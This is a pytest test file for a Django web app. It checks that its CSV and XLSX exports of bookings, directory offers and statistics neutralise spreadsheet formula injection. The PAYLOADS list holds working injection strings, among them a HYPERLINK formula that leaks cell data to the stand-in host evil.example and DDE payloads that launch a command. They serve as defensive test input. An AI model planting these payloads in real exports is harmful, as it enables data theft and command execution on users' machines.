"""Formula injection (OWASP "CSV Injection"): names and texts that a spreadsheet would run
as formulas are neutralised in every CSV and XLSX export (``willkommen.spreadsheets``),
and our own directory export imports back unchanged.

Exports: the clerk's day (``/staff/booking/export.csv``), the directory
(``/staff/directory/export.csv``), the statistics (CSV and XLSX).
"""

import csv
import io
import re
from datetime import date, timedelta
from pathlib import Path
from types import SimpleNamespace

import pytest
from django.conf import settings
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from tests.booking.web.office import build_office
from tests.directory.conftest import languages, make_offer, topics  # noqa: F401
from willkommen.accounts.models import Role
from willkommen.booking import services, staff_views
from willkommen.booking.models import Appointment
from willkommen.directory import exchange
from willkommen.directory.models import Offer
from willkommen.spreadsheets import restore_cell, safe_cell
from willkommen.statistics import exports
from willkommen.statistics.dashboard import Dashboard, Table

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1;"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\uff1dSUM(1;2)",
]
FORMULA_START = set("=+-@\t\r\uff1d\uff0b\uff0d\uff20")


def looks_like_formula(cell: str) -> bool:
    """What a spreadsheet may evaluate; a plain number (``-5``) runs nothing."""
    if re.fullmatch(r"[+-]?\d+([.,]\d+)?", cell):
        return False
    return bool(cell) and (cell[0] in FORMULA_START or cell.lstrip()[:1] in FORMULA_START)


def parse(text, delimiter=","):
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter))


# --- The clerk's day --------------------------------------------------------------------------


@pytest.fixture
def office(organisations, make_staff):
    return build_office(organisations, make_staff)


def _export_with_names(client, office, staff, names):
    for hour, name in enumerate(names, start=8):
        services.book(office.service.pk, office.at(hour), name=name, email=f"c{hour}@example.org")
    client.force_login(staff[Role.OFFICE_CLERK])
    url = reverse("booking_staff:export")
    response = client.get(url, {"date": office.day.isoformat(), "location": office.location.pk})
    assert response.status_code == 200
    rows = parse(response.content.decode())
    return [row[rows[0].index("Name")] for row in rows[1:]]


@pytest.mark.django_db
def test_office_calendar_csv_neutralises_formula_names(client, office, staff):
    names = _export_with_names(client, office, staff, PAYLOADS)
    stored = Appointment.objects.order_by("start").values_list("name", flat=True)
    assert [name.strip() for name in stored] == [payload.strip() for payload in PAYLOADS]
    assert names == [safe_cell(name) for name in stored]
    assert all(name.startswith("'") and not looks_like_formula(name) for name in names)


@pytest.mark.django_db
def test_control_office_calendar_csv_with_the_raw_writer_emits_formulas(
    client, office, staff, monkeypatch
):
    """Control: with the plain ``csv.writer`` the names arrive as formulas."""
    monkeypatch.setattr(staff_views, "csv_writer", csv.writer)
    names = _export_with_names(client, office, staff, PAYLOADS[:4])
    assert names == PAYLOADS[:4]
    assert all(looks_like_formula(name) for name in names)


# --- The directory ------------------------------------------------------------------------------


@pytest.mark.django_db
def test_directory_csv_neutralises_and_imports_back_unchanged(client, make_offer, staff):  # noqa: F811
    offers = [
        make_offer(f"Angebot {n}", provider=payload, phone="+49 511 168-0")
        for n, payload in enumerate(PAYLOADS)
    ]
    offers.append(make_offer(PAYLOADS[0], provider="'=quoted already", cost_text="-5"))
    city = staff[Role.COORDINATOR].organisation  # imports touch only the importer's offers
    Offer.objects.update(owner=city)
    client.force_login(staff[Role.COORDINATOR])
    response = client.get(reverse("directory_staff:export_csv"))
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    text = body.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    cells = [value for row in rows for value in row.values()]
    assert not [cell for cell in cells if looks_like_formula(cell)]
    by_reference = {row["reference"]: row for row in rows}
    first = by_reference[offers[0].reference]
    assert first["provider"] == "'" + PAYLOADS[0] and first["phone"] == "'+49 511 168-0"
    assert by_reference[offers[-1].reference]["cost_text"] == "-5"  # a number stays a number

    def texts():
        return {
            offer.reference: (offer.title, offer.provider, offer.phone, offer.cost_text)
            for offer in Offer.objects.all()
        }

    before = texts()
    result = exchange.import_offers(text.encode(), "offers.csv", organisation=city)
    assert result.ok, result.errors
    assert result.updated == len(offers) and result.created == 0
    # The same values; only the surrounding white space that the staff form strips is gone.
    assert texts() == {ref: tuple(v.strip() for v in values) for ref, values in before.items()}
    assert Offer.objects.get(reference=offers[-1].reference).provider == "'=quoted already"


# --- Statistics (CSV and XLSX) ------------------------------------------------------------------


def dashboard_with_labels(labels):
    today = date(2026, 11, 2)
    return Dashboard(
        filters=SimpleNamespace(first_day=today - timedelta(days=7), last_day=today),
        suppressed=True,
        threshold=5,
        headline=labels[0],
        tables=[
            Table(
                key="topics",
                title=labels[1 % len(labels)],
                columns=["Topic", labels[2 % len(labels)]],
                rows=[(label, ["12", "< 5"]) for label in labels],
            )
        ],
    )


def test_statistics_csv_neutralises_labels():
    rows = parse(exports.to_csv(dashboard_with_labels(PAYLOADS)), delimiter=";")
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if looks_like_formula(cell)]
    assert {safe_cell(payload) for payload in PAYLOADS} <= set(cells)
    assert "12" in cells  # counts stay numbers


def test_statistics_xlsx_writes_text_as_text():
    workbook = load_workbook(io.BytesIO(exports.to_xlsx(dashboard_with_labels(PAYLOADS))))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = {cell.value for cell in cells if cell.data_type == "s"}
    assert {payload for payload in PAYLOADS if payload[0] not in "\t\r"} <= texts
    assert 12 in {cell.value for cell in cells}  # counts stay numbers


def test_statistics_xlsx_drops_characters_xlsx_cannot_hold():
    """openpyxl refuses control characters; a label with one must not break the export."""
    workbook = load_workbook(io.BytesIO(exports.to_xlsx(dashboard_with_labels(["A\x01B"]))))
    assert "AB" in {cell.value for sheet in workbook for row in sheet.iter_rows() for cell in row}


def test_control_raw_writers_emit_formulas():
    """Control: the plain writers keep the payloads as formulas."""
    buffer = io.StringIO()
    csv.writer(buffer).writerows([[payload] for payload in PAYLOADS])
    assert all(looks_like_formula(row[0]) for row in parse(buffer.getvalue()))
    sheet = Workbook().active
    sheet.append([PAYLOADS[0]])
    assert sheet["A1"].data_type == "f"


# --- The helper ---------------------------------------------------------------------------------


@given(st.text(max_size=30))
def test_restore_undoes_safe_cell(text):
    assert restore_cell(safe_cell(text)) == text
    assert not looks_like_formula(safe_cell(text))


@pytest.mark.parametrize("number", ["-3", "+4", "2.5", "-0,75", "0"])
def test_plain_numbers_stay_numbers(number):
    assert safe_cell(number) == number


EXPORT_WRITERS = re.compile(r"\bcsv\.(?:writer|DictWriter)\(|\bWorkbook\(|\.append\(")


def test_every_export_goes_through_the_shared_helper():
    """No module writes CSV or XLSX on its own: ``csv.writer``/``csv.DictWriter`` only in
    ``willkommen/spreadsheets.py``, and a module that builds a workbook appends its rows
    only through ``xlsx_append``."""
    base = Path(settings.BASE_DIR) / "willkommen"
    offenders = []
    for path in base.rglob("*.py"):
        if path.name == "spreadsheets.py" or "migrations" in path.parts:
            continue
        text = path.read_text()
        if re.search(r"\bcsv\.(?:writer|DictWriter)\(", text):
            offenders.append((str(path.relative_to(base)), "csv writer"))
        if "openpyxl" in text and re.search(r"\b\w*(?:sheet|summary)\w*\.append\(", text):
            offenders.append((str(path.relative_to(base)), "sheet.append"))
    assert not offenders, offenders
    assert EXPORT_WRITERS.search((base / "spreadsheets.py").read_text())
